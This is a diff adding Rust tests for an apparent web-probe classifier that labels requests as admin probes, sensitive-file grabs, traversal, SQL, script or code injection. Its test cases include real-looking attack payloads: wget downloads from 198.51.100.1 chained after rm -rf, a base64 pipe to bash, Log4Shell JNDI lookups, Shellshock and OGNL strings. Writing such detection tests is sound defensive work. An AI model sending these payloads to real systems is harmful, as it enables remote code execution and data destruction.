@@ -1,0 +1,264 @@
+use super::*;
+
+/// The one-pass lookups (admin prefixes by set, sensitive paths by automaton) answer as a
+/// scan of every word would, around every word's edges.
+#[test]
+fn list_lookups_agree_with_a_scan_of_every_word() {
+    let admin: Vec<String> = words(ADMIN)
+        .into_iter()
+        .map(|w| w.trim_end_matches('/').to_owned())
+        .filter(|w| !w.is_empty())
+        .collect();
+    let paths: Vec<String> = words(SENSITIVE)
+        .into_iter()
+        .filter(|w| w.contains('/'))
+        .map(|w| format!("/{w}"))
+        .collect();
+    let scan_admin = |p: &str| {
+        admin.iter().any(|w| {
+            p.starts_with(w.as_str())
+                && matches!(p.as_bytes().get(w.len()), None | Some(b'/' | b'.' | b'?'))
+        })
+    };
+    let scan_paths = |p: &str| {
+        paths
+            .iter()
+            .any(|w| p.ends_with(w.as_str()) || p.contains(&format!("{w}/")))
+    };
+    let mut cases = vec!["/".to_owned(), "/api/v1/orders/7".to_owned(), String::new()];
+    for w in admin.iter().chain(&paths) {
+        for (pre, post) in [
+            ("", ""),
+            ("", "/"),
+            ("", ".php"),
+            ("", "?a=1"),
+            ("", "x"),
+            ("", "/x"),
+            ("/app", ""),
+            ("/app", "/"),
+            ("/app", "x"),
+            ("/app", "/x.y"),
+        ] {
+            cases.push(format!("{pre}{w}{post}"));
+        }
+        cases.push(w[..w.len() - 1].to_owned());
+    }
+    let l = lists();
+    for p in &cases {
+        assert_eq!(l.is_admin(p), scan_admin(p), "admin prefix of {p:?}");
+        assert_eq!(
+            l.in_sensitive_path(p),
+            scan_paths(p),
+            "sensitive path in {p:?}"
+        );
+    }
+}
+
+/// The one-pass shortcut for ordinary paths answers as the full classification does: on
+/// every list word inside ordinary paths, upper-cased, percent-encoded, as a prefix or a
+/// last segment, with and without a query or a scanner's user agent.
+#[test]
+fn the_ordinary_path_shortcut_changes_no_answer() {
+    let l = lists();
+    let mut paths = vec![
+        "/".to_owned(),
+        "/api/v1/orders/17".to_owned(),
+        "/static/app.js".to_owned(),
+        "/api/v1/search%20x".to_owned(),
+        "/a+b".to_owned(),
+    ];
+    let every_word = (words(ADMIN).into_iter())
+        .chain(words(SENSITIVE))
+        .chain(words(BACKDOORS))
+        .chain(words(TRAVERSAL))
+        .chain(words(SQLI))
+        .chain(words(XSS))
+        .chain(MORE_TRAVERSAL.iter().map(|w| w.to_string()))
+        .chain(DECODED_SQLI.iter().map(|w| w.to_string()))
+        .chain(CODE_INJECTION.iter().map(|w| w.to_string()));
+    for w in every_word {
+        let encoded: String = w.bytes().map(|b| format!("%{b:02X}")).collect();
+        for word in [w.clone(), w.to_ascii_uppercase(), encoded] {
+            let word = word.trim_start_matches('/');
+            for (pre, post) in [("/", ""), ("/app/", "/x"), ("/app/x", ".json")] {
+                paths.push(format!("{pre}{word}{post}"));
+            }
+        }
+    }
+    for path in &paths {
+        for query in [None, Some("page=2"), Some("q=%27%20or%201%3D1")] {
+            for ua in [None, Some("Mozilla/5.0"), Some("sqlmap/1.8")] {
+                assert_eq!(
+                    classify(l, path, query, ua, Shortcut::Taken),
+                    classify(l, path, query, ua, Shortcut::Skipped),
+                    "{path} {query:?} {ua:?}"
+                );
+            }
+        }
+    }
+    assert!(!l.any_path_word.is_match("/api/v1/orders/17"));
+}
+
+#[test]
+fn ordinary_api_and_browser_traffic_is_not_a_probe() {
+    for (p, q) in [
+        ("/api/v1/products/42", None),
+        ("/api/v1/search", Some("q=shoes&page=2")),
+        ("/api/v1/login", None),
+        ("/api/v1/admin-tools/settings", None),
+        ("/static/app.css", None),
+        ("/health", None),
+        ("/api/v1/orders/500001", None),
+    ] {
+        assert_eq!(
+            probe_class(p, q, Some("Mozilla/5.0 Chrome/131")),
+            None,
+            "{p}"
+        );
+    }
+}
+
+/// One pass finds every injection class; the reported one follows the fixed priority
+/// (traversal, then SQL, then script), wherever in the request each payload is.
+#[test]
+fn injection_classes_keep_their_priority() {
+    let q = "q=<script>x</script>&id=1 union select information_schema.tables";
+    assert_eq!(
+        probe_class("/a/../../etc", Some(q), None),
+        Some("path-traversal")
+    );
+    assert_eq!(
+        probe_class("/api/search", Some(q), None),
+        Some("sql-injection")
+    );
+    assert_eq!(
+        probe_class(
+            "/api/%3Csvg%20onload=1%3E",
+            Some("information_schema.tables"),
+            None
+        ),
+        Some("sql-injection")
+    );
+    assert_eq!(
+        probe_class("/api/%3Csvg%20onload=1%3E", None, None),
+        Some("script-injection")
+    );
+}
+
+#[test]
+fn probes_are_classified() {
+    assert_eq!(
+        probe_class("/wp-admin/", None, None),
+        Some("admin-interface")
+    );
+    assert_eq!(
+        probe_class("/backup.sql.gz", None, None),
+        Some("sensitive-file")
+    );
+    assert_eq!(probe_class("/1337.php", None, None), Some("backdoor"));
+    // Runs of slashes are read as one; dotenv files under any framework's name.
+    assert_eq!(
+        probe_class("//phpMyAdmin/index.php", None, None),
+        Some("admin-interface")
+    );
+    for path in ["//web/.flaskenv", "/app/.env.production", "/.envrc"] {
+        assert_eq!(
+            probe_class(path, None, None),
+            Some("sensitive-file"),
+            "{path}"
+        );
+    }
+    for path in ["/api/v1/environments/3", "/static/env.js", "/.well-known/x"] {
+        assert_eq!(probe_class(path, None, None), None, "{path}");
+    }
+    assert_eq!(
+        probe_class("/api/v1/search", Some("q=<script>alert(1)</script>"), None),
+        Some("script-injection")
+    );
+    assert_eq!(
+        probe_class(
+            "/x",
+            None,
+            Some("Mozilla/5.0 (compatible; Nuclei - Open-source project)")
+        ),
+        Some("scanner-agent")
+    );
+    assert_eq!(percent_decode("%2e%2e%2F+x%zz"), "../ x%zz");
+    for path in [
+        "/tmui/login.jsp/..;/tmui/x.jsp",
+        "/unauth/%252e%252e/php/x.php",
+    ] {
+        assert_eq!(
+            probe_class(path, None, None),
+            Some("path-traversal"),
+            "{path}"
+        );
+    }
+}
+
+/// Payloads that try to run something, encoded as scanners send them, in the path, the
+/// query or the user agent; and ordinary requests that merely share a word with them.
+#[test]
+fn code_injection_is_recognised_in_any_encoding_and_nowhere_else() {
+    let code = |path: &str, query: Option<&str>, ua: Option<&str>| {
+        probe_class(path, query, ua) == Some("code-injection")
+    };
+    // OGNL in an encoded path, a Text4Shell lookup, Spring4Shell, a chained shell command.
+    assert!(code(
+        "/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29%7D/",
+        None,
+        None
+    ));
+    assert!(code(
+        "/",
+        Some("search=%24%7Bscript%3Ajavascript%3Ax%7D"),
+        None
+    ));
+    assert!(code(
+        "/path/",
+        Some("class.module.classLoader.URLs%5B0%5D=0"),
+        None
+    ));
+    assert!(code(
+        "/setup.cgi",
+        Some("todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/m"),
+        None
+    ));
+    assert!(code(
+        "/index.php",
+        Some("login=$(echo${IFS}cHl0aG9u|base64${IFS}-d|bash)"),
+        None
+    ));
+    // Log4Shell and Shellshock in the user agent, even from a scanner.
+    assert!(code("/", None, Some("${jndi:${lower:l}dap://x.example/a}")));
+    assert!(code(
+        "/cgi-bin/status",
+        None,
+        Some("() { :; }; /bin/bash -c 'id'")
+    ));
+    assert!(code("/", None, Some("Nuclei ${jndi:ldap://x.example/a}")));
+    // A query that is a command line, letter by letter encoded (fail2ban's test line).
+    assert!(code("/shell", Some("%75%6E%61%6D%65%20%2D%61"), None));
+    assert!(code(
+        "/shell",
+        Some("cd+/tmp;wget+http://198.51.100.1/m"),
+        None
+    ));
+    // Ordinary requests.
+    for (path, query, ua) in [
+        ("/api/v1/search", Some("q=curl+tutorial&sort=new"), None),
+        ("/docs/shell", Some("topic=rm%20command"), None),
+        ("/api/v1/templates", Some("body=Hello+%24%7Bname%7D"), None),
+        (
+            "/",
+            None,
+            Some("Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"),
+        ),
+    ] {
+        assert_ne!(
+            probe_class(path, query, ua),
+            Some("code-injection"),
+            "{path} {query:?}"
+        );
+    }
+}
